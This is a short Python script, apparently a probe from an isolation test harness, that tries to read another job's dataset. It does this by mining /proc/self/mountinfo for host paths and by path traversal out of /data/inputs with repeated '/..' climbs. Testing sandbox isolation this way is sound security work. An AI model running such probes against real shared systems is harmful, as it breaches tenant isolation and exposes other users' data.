"""Read another job's staged dataset, by its path on the host and by climbing out of its own inputs."""

import os

from attacker import PLAN, hunt

for line in open("/proc/self/mountinfo", encoding="utf-8"):
    source = line.split()[3]
    parent = os.path.dirname(os.path.dirname(source))
    for folder in (source, parent, os.path.dirname(parent)):
        hunt(f"{folder}/{PLAN['neighbour_dataset']}/0")
for place in PLAN["neighbour_files"]:
    hunt(place)
for climb in range(1, 6):
    hunt("/data/inputs" + "/.." * climb + PLAN["neighbour_files"][0])
hunt(f"/data/inputs/{PLAN['neighbour_dataset']}/0")
